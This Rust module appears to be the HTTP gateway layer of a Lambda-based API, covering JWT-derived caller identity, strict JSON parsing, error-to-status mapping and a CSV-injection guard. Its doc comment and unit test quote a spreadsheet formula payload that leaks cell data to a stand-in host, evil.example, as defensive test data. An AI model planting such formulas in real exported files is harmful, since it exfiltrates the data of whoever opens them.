//! The HTTP edge of every Lambda: reads the API Gateway HTTP API (payload 2.0) request,
//! finds the route, the verified caller and the request id, and turns a use case's result
//! into a response — errors included, in one place.
//!
//! The caller comes only from the JWT authorizer's verified claims in the request context
//! (`sub`, and `role` for operators and platform services). Headers a client can set are
//! never trusted for identity.

pub mod bootstrap;
pub mod observability;
pub mod routes;

use std::collections::HashMap;
use std::time::Instant;

use domain::deadline::Deadline;
use domain::error::{Class, Error, Kind, Rejection};
use domain::identity::PersonId;
use domain::pipeline::{Outcome, RequestMeta};
use domain::policy::Caller;
use domain::store::{CommitError, StoreError};
use lambda_http::aws_lambda_events::apigw::ApiGatewayV2httpRequestContext;
use lambda_http::request::RequestContext;
use lambda_http::{Body, Request, RequestExt, Response};
use serde::Serialize;
use serde::de::DeserializeOwned;
use serde_json::{Map, Value, json};
use tracing::Instrument;

pub use routes::{Route, Routes};

/// The largest request body accepted. Bigger ones get 413 before any parsing.
pub const MAX_BODY_BYTES: usize = 64 * 1024;

/// A request, understood: which of the function's routes it is, who asks, and its parts.
#[derive(Debug)]
pub struct Incoming<R> {
    pub route: R,
    pub caller: Caller,
    pub request_id: String,
    /// When the invocation must have answered (the Lambda context's deadline).
    pub deadline: Deadline,
    params: HashMap<String, String>,
    query: HashMap<String, String>,
    headers: lambda_http::http::HeaderMap,
    body: Vec<u8>,
}

impl<R> Incoming<R> {
    /// A path parameter the route declares (API Gateway only routes requests that have it).
    pub fn param(&self, name: &str) -> &str {
        self.params.get(name).map_or("", String::as_str)
    }

    pub fn query(&self, name: &str) -> Option<&str> {
        self.query.get(name).map(String::as_str)
    }

    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(name).and_then(|v| v.to_str().ok())
    }

    pub fn meta(&self) -> RequestMeta {
        RequestMeta { caller: self.caller.clone(), request_id: self.request_id.clone(), deadline: self.deadline }
    }

    /// The body as JSON of type `T`. Malformed JSON, a wrong type, a missing or an unknown
    /// field: 400 `invalid_request` naming the field. A whole number written with a fraction
    /// or an exponent (`37308.0`, `1e3`) is an integer, as JSON Schema counts it.
    pub fn json<T: DeserializeOwned>(&self) -> Result<T, Rejection> {
        parse_json(&self.body)
    }

    /// The body as generic JSON (for request digests).
    pub fn json_value(&self) -> Result<Value, Rejection> {
        parse_json(&self.body)
    }

    pub fn body_is_empty(&self) -> bool {
        self.body.iter().all(u8::is_ascii_whitespace)
    }
}

pub fn parse_json<T: DeserializeOwned>(body: &[u8]) -> Result<T, Rejection> {
    if body.iter().all(u8::is_ascii_whitespace) {
        return Err(Rejection::invalid_request("body", "a JSON body is required"));
    }
    let mut value: Value =
        serde_json::from_slice(body).map_err(|error| Rejection::invalid_request("body", format!("the body is not valid JSON: {error}")))?;
    whole_numbers_as_integers(&mut value);
    serde_path_to_error::deserialize(value).map_err(|error| {
        let path = error.path().to_string();
        let field = if path == "." { "body".to_owned() } else { path };
        Rejection::invalid_request(&field, strip_position(&error.into_inner().to_string()))
    })
}

/// JSON Schema's `integer` is a value, not a spelling: `37308.0` and `3.7308e4` are integers,
/// which serde would refuse for an integer field. Whole numbers up to 2^53 (past which a double
/// no longer spells every integer, and schema tools stop writing them so) become integers.
fn whole_numbers_as_integers(value: &mut Value) {
    const EXACT: f64 = 9_007_199_254_740_992.0;
    match value {
        Value::Number(number) if number.is_f64() => {
            if let Some(float) = number.as_f64().filter(|f| f.fract() == 0.0 && f.abs() <= EXACT) {
                // Exact: a whole double within ±2^53 is that integer.
                *number = if float < 0.0 { (float as i64).into() } else { (float as u64).into() };
            }
        }
        Value::Array(items) => items.iter_mut().for_each(whole_numbers_as_integers),
        Value::Object(fields) => fields.values_mut().for_each(whole_numbers_as_integers),
        _ => {}
    }
}

/// For a field that may be left out but is never `null` (its schema has no `null`):
/// `#[serde(default, deserialize_with = "gateway::not_null")]`. serde's `Option` would take
/// `null` as absent.
pub fn not_null<'de, D: serde::Deserializer<'de>, T: serde::Deserialize<'de>>(deserializer: D) -> Result<Option<T>, D::Error> {
    T::deserialize(deserializer).map(Some)
}

/// serde's messages end with " at line 1 column 42"; that helps nobody using an API.
fn strip_position(message: &str) -> String {
    match message.rfind(" at line ") {
        Some(position) => message[..position].to_owned(),
        None => message.to_owned(),
    }
}

/// The caller from the authorizer's verified claims.
fn caller_of(context: Option<&ApiGatewayV2httpRequestContext>, public: bool) -> Result<Caller, Rejection> {
    if public {
        return Ok(Caller::Anonymous);
    }
    let unauthenticated = || Rejection::new(Kind::Unauthenticated, "a valid bearer token is required");
    let claims =
        context.and_then(|c| c.authorizer.as_ref()).and_then(|a| a.jwt.as_ref()).map(|jwt| &jwt.claims).ok_or_else(unauthenticated)?;
    let subject = claims.get("sub").filter(|s| !s.is_empty()).ok_or_else(unauthenticated)?;
    match claims.get("role").map(String::as_str) {
        Some("operator") => Ok(Caller::Operator(subject.clone())),
        Some("service") => Ok(Caller::Service(subject.clone())),
        None | Some("") | Some("user") => PersonId::parse(subject)
            .map(Caller::Person)
            .map_err(|_| Rejection::new(Kind::Unauthenticated, "the token's subject is not a national ID or iqama number")),
        Some(_) => Err(Rejection::new(Kind::Unauthenticated, "the token's role is not recognized")),
    }
}

/// What a route answers on success.
#[derive(Debug, Clone)]
pub struct Reply {
    pub status: u16,
    pub content_type: &'static str,
    pub body: Vec<u8>,
    pub headers: Vec<(&'static str, String)>,
}

impl Reply {
    pub fn json(status: u16, body: &impl Serialize) -> Result<Reply, Error> {
        let body = serde_json::to_vec(body).map_err(Error::internal)?;
        Ok(Reply { status, content_type: "application/json", body, headers: vec![] })
    }

    /// A command's answer; a replay of a keyed request's first answer says so
    /// (`idempotent-replayed: true`).
    pub fn outcome(status: u16, outcome: &Outcome<impl Serialize>) -> Result<Reply, Error> {
        let reply = Reply::json(status, &outcome.answer)?;
        Ok(if outcome.replayed { reply.with_header("idempotent-replayed", "true".to_owned()) } else { reply })
    }

    /// A CSV file. Build its cells with [`spreadsheet_cell`].
    pub fn csv(body: Vec<u8>, file_name: &str) -> Reply {
        Reply {
            status: 200,
            content_type: "text/csv; charset=utf-8",
            body,
            headers: vec![("content-disposition", format!("attachment; filename=\"{file_name}\""))],
        }
    }

    pub fn with_header(mut self, name: &'static str, value: String) -> Reply {
        self.headers.push((name, value));
        self
    }
}

/// The one place a rejection's class becomes an HTTP status.
pub fn status_of(class: Class) -> u16 {
    match class {
        Class::BadRequest => 400,
        Class::Unauthenticated => 401,
        Class::PaymentRequired => 402,
        Class::Forbidden => 403,
        Class::NotFound => 404,
        Class::Conflict => 409,
        Class::Gone => 410,
        Class::PayloadTooLarge => 413,
        Class::Unprocessable => 422,
        Class::Locked => 423,
        Class::TooManyRequests => 429,
        Class::Busy => 503,
    }
}

/// Every answer of the API: answers carry personal data (names, masked contacts, IDs), so
/// no cache — the browser's, a proxy's — keeps them (`no-store`), and none is sniffed into
/// another type than it says (`nosniff`: a CSV or JSON never runs as a page).
fn response(status: u16, content_type: &str, body: Vec<u8>, headers: &[(&str, String)]) -> Response<Body> {
    let mut builder = Response::builder()
        .status(status)
        .header("content-type", content_type)
        .header("cache-control", "no-store")
        .header("x-content-type-options", "nosniff");
    for (name, value) in headers {
        builder = builder.header(*name, value.as_str());
    }
    builder.body(Body::Binary(body)).unwrap_or_else(|_| Response::new(Body::Empty))
}

fn error_body(code: &str, message: &str, details: &Map<String, Value>, request_id: &str) -> Vec<u8> {
    let mut error = Map::new();
    error.insert("code".into(), Value::String(code.to_owned()));
    error.insert("message".into(), Value::String(message.to_owned()));
    for (name, value) in details {
        error.insert(name.clone(), value.clone());
    }
    serde_json::to_vec(&json!({ "error": error, "request_id": request_id })).unwrap_or_default()
}

pub fn rejection_response(rejection: &Rejection, request_id: &str) -> Response<Body> {
    let details: Map<String, Value> = rejection.details.clone().into_iter().collect();
    let body = error_body(rejection.kind.code(), &rejection.message, &details, request_id);
    let mut headers = vec![];
    if let Some(seconds) = rejection.retry_after {
        headers.push(("retry-after", seconds.to_string()));
    }
    response(status_of(rejection.kind.class()), "application/json", body, &headers)
}

/// Whether an internal failure is a dependency being unavailable (503) rather than a bug (500).
fn is_unavailable(error: &(dyn std::error::Error + 'static)) -> bool {
    let mut current = Some(error);
    while let Some(error) = current {
        if matches!(error.downcast_ref::<StoreError>(), Some(StoreError::Unavailable(_)))
            || matches!(error.downcast_ref::<CommitError>(), Some(CommitError::Unavailable(_) | CommitError::Unknown(_)))
        {
            return true;
        }
        current = error.source();
    }
    false
}

/// Whether an internal failure is a deployment mistake: retrying cannot help, so it is a
/// 500 and says so in the log, never a retriable 503.
fn is_misconfigured(error: &(dyn std::error::Error + 'static)) -> bool {
    let mut current = Some(error);
    while let Some(error) = current {
        if matches!(error.downcast_ref::<StoreError>(), Some(StoreError::Misconfigured(_)))
            || matches!(error.downcast_ref::<CommitError>(), Some(CommitError::Misconfigured(_)))
        {
            return true;
        }
        current = error.source();
    }
    false
}

/// The full cause chain of an error, for the log (never for the client).
pub fn cause_chain(error: &(dyn std::error::Error + 'static)) -> String {
    let mut chain = error.to_string();
    let mut current = error.source();
    while let Some(cause) = current {
        chain.push_str(": ");
        chain.push_str(&cause.to_string());
        current = cause.source();
    }
    chain
}

pub fn error_response(error: &Error, request_id: &str) -> Response<Body> {
    match error {
        Error::Rejected(rejection) => rejection_response(rejection, request_id),
        Error::Internal(cause) => {
            let unavailable = is_unavailable(cause.as_ref());
            if is_misconfigured(cause.as_ref()) {
                tracing::error!(cause = %cause_chain(cause.as_ref()), "request failed: the deployment is misconfigured (a table or index is missing)");
            } else {
                tracing::error!(cause = %cause_chain(cause.as_ref()), unavailable, "request failed");
            }
            let (status, code, headers) =
                if unavailable { (503, "unavailable", vec![("retry-after", "1".to_owned())]) } else { (500, "internal", vec![]) };
            response(status, "application/json", error_body(code, "the request could not be completed", &Map::new(), request_id), &headers)
        }
    }
}

fn request_id_of(request: &Request, context: Option<&ApiGatewayV2httpRequestContext>) -> String {
    context
        .and_then(|c| c.request_id.clone())
        .or_else(|| request.lambda_context_ref().map(|c| c.request_id.clone()))
        .filter(|id| !id.is_empty())
        .unwrap_or_else(|| format!("local-{}", domain::entropy::SystemEntropy::hex(8)))
}

/// Handles one request: understands it as one of `R`'s routes, runs `handler`, answers.
/// Logs one line per request with the route, status, duration, request id and
/// organization — no personal data.
pub async fn serve<R: Routes>(request: Request, handler: impl AsyncFnOnce(Incoming<R>) -> Result<Reply, Error>) -> Response<Body> {
    let started = Instant::now();
    let context = match request.request_context_ref() {
        Some(RequestContext::ApiGatewayV2(context)) => Some(context.clone()),
        _ => None,
    };
    let request_id = request_id_of(&request, context.as_ref());
    let route_key = context.as_ref().and_then(|c| c.route_key.clone()).unwrap_or_default();
    let params: HashMap<String, String> =
        request.path_parameters_ref().map(|p| p.iter().map(|(k, v)| (k.to_owned(), v.to_owned())).collect()).unwrap_or_default();
    let organization = params.get("org").cloned().unwrap_or_default();
    let span = tracing::info_span!("request", request_id = %request_id, route = %route_key, organization = %organization);
    async move {
        let answer = match understand::<R>(request, &route_key, params, context.as_ref(), request_id.clone()) {
            Ok(incoming) => match handler(incoming).await {
                Ok(reply) => response(reply.status, reply.content_type, reply.body, &reply.headers),
                Err(error) => error_response(&error, &request_id),
            },
            Err(rejection) => rejection_response(&rejection, &request_id),
        };
        tracing::info!(status = answer.status().as_u16(), duration_ms = started.elapsed().as_millis() as u64, "handled");
        answer
    }
    .instrument(span)
    .await
}

fn understand<R: Routes>(
    request: Request,
    route_key: &str,
    params: HashMap<String, String>,
    context: Option<&ApiGatewayV2httpRequestContext>,
    request_id: String,
) -> Result<Incoming<R>, Rejection> {
    let route = R::of_key(route_key).ok_or_else(|| Rejection::new(Kind::NotFound, "no such route"))?;
    let caller = caller_of(context, route.route().public)?;
    let deadline = request.lambda_context_ref().map_or(Deadline::unbounded(), |context| Deadline::from_epoch_millis(context.deadline));
    let query =
        request.query_string_parameters_ref().map(|q| q.iter().map(|(k, v)| (k.to_owned(), v.to_owned())).collect()).unwrap_or_default();
    let headers = request.headers().clone();
    let body = match request.into_body() {
        Body::Empty => vec![],
        Body::Text(text) => text.into_bytes(),
        Body::Binary(bytes) => bytes,
        _ => vec![],
    };
    if body.len() > MAX_BODY_BYTES {
        return Err(Rejection::new(Kind::PayloadTooLarge, format!("request bodies are limited to {MAX_BODY_BYTES} bytes"))
            .detail("limit_bytes", MAX_BODY_BYTES));
    }
    Ok(Incoming { route, caller, request_id, deadline, params, query, headers, body })
}

impl<R> Incoming<R> {
    /// The `{org}` path parameter. A malformed one is as unknown as a missing organization.
    pub fn organization(&self) -> Result<domain::organization::OrganizationId, Rejection> {
        domain::organization::OrganizationId::parse(self.param("org")).map_err(|_| Rejection::not_found())
    }

    /// The `{id}` path parameter naming a user of the organization.
    pub fn user_id(&self) -> Result<PersonId, Rejection> {
        PersonId::parse(self.param("id")).map_err(|_| Rejection::user_not_found())
    }

    /// `?limit=` (1..=`max`, default `default`) and `?cursor=` (opened by the listing it is
    /// for).
    pub fn page(&self, default: usize, max: usize) -> Result<domain::cursor::PageAsked, Rejection> {
        let limit = match self.query("limit") {
            None => default,
            Some(raw) => raw
                .parse::<usize>()
                .ok()
                .filter(|n| (1..=max).contains(n))
                .ok_or_else(|| Rejection::invalid_request("limit", format!("limit is a whole number from 1 to {max}")))?,
        };
        let cursor = self.query("cursor").filter(|c| !c.is_empty()).map(str::to_owned);
        Ok(domain::cursor::PageAsked { limit, cursor })
    }

    /// The `Idempotency-Key` header, required on paid operations.
    pub fn idempotency_key(&self) -> Result<&str, Rejection> {
        let key = self.header("idempotency-key").ok_or_else(|| {
            Rejection::new(Kind::MissingIdempotencyKey, "paid operations need an Idempotency-Key header").field("Idempotency-Key")
        })?;
        if domain::idempotency::valid_key(key) {
            Ok(key)
        } else {
            Err(Rejection::invalid_request("Idempotency-Key", "the key is 1 to 200 printable ASCII characters"))
        }
    }
}

/// A CSV cell a spreadsheet program will not run: a value starting with `=`, `+`, `-`, `@`,
/// a tab or a carriage return would be taken as a formula (CSV injection:
/// `=HYPERLINK("http://evil.example/?leak="&A2, …)` in a payment reference); such a value is
/// prefixed with a single quote, as OWASP advises, which spreadsheets show as text. (The
/// `csv` writer then quotes the cell as RFC 4180 requires.)
pub fn spreadsheet_cell(value: String) -> String {
    match value.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{value}"),
        _ => value,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde::Deserialize;

    #[test]
    fn a_cell_a_spreadsheet_would_run_is_kept_as_text() {
        for formula in ["=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"] {
            assert_eq!(spreadsheet_cell(formula.to_owned()), format!("'{formula}"), "{formula:?}");
        }
        for plain in ["150.00", "INV-1", "سارة", "", "a=b", "'quoted"] {
            assert_eq!(spreadsheet_cell(plain.to_owned()), plain, "{plain:?}");
        }
    }

    #[derive(Debug, Deserialize, PartialEq)]
    #[serde(deny_unknown_fields)]
    struct Inner {
        amount: u64,
    }

    #[derive(Debug, Deserialize, PartialEq)]
    #[serde(deny_unknown_fields)]
    struct Outer {
        version: u64,
        items: Vec<Inner>,
        #[serde(default, deserialize_with = "not_null")]
        note: Option<String>,
    }

    fn refusal(body: &str) -> (String, String) {
        let rejection = parse_json::<Outer>(body.as_bytes()).expect_err("refused");
        assert_eq!(rejection.kind, Kind::InvalidRequest);
        (rejection.details["field"].as_str().unwrap_or_default().to_owned(), rejection.message)
    }

    #[test]
    fn whole_numbers_are_integers_however_written() {
        let parsed: Outer = parse_json(br#"{"version": 2.0, "items": [{"amount": 37308.0}, {"amount": 1e3}, {"amount": 0}]}"#).unwrap();
        assert_eq!(
            parsed,
            Outer { version: 2, items: vec![Inner { amount: 37308 }, Inner { amount: 1000 }, Inner { amount: 0 }], note: None }
        );
        let at_the_limit: Outer = parse_json(br#"{"version": 9007199254740992.0, "items": []}"#).unwrap();
        assert_eq!(at_the_limit.version, 9_007_199_254_740_992);
    }

    #[test]
    fn fractions_negative_and_huge_numbers_are_refused_naming_the_field() {
        assert_eq!(refusal(r#"{"version": 1, "items": [{"amount": 2.5}]}"#).0, "items[0].amount");
        assert_eq!(refusal(r#"{"version": -1.0, "items": []}"#).0, "version");
        // Past 2^53 a double no longer says which integer was meant.
        assert_eq!(refusal(r#"{"version": 1e17, "items": []}"#).0, "version");
        assert_eq!(refusal(r#"{"version": 18446744073709551616, "items": []}"#).0, "version");
    }

    #[test]
    fn null_is_not_an_absent_field_and_shape_errors_name_their_field() {
        assert_eq!(refusal(r#"{"version": 1, "items": [], "note": null}"#).0, "note");
        assert_eq!(parse_json::<Outer>(br#"{"version": 1, "items": [], "note": "x"}"#).unwrap().note.as_deref(), Some("x"));
        assert_eq!(refusal(r#"{"version": 1, "items": [{"amount": 1, "extra": 1}]}"#).0, "items[0].extra");
        assert_eq!(refusal(r#"{"items": []}"#).0, "body");
        let (field, message) = refusal(r#"{"version": 1, "items": []} {}"#);
        assert_eq!(field, "body");
        assert!(message.starts_with("the body is not valid JSON"), "{message}");
        assert_eq!(refusal(" ").1, "a JSON body is required");
    }
}
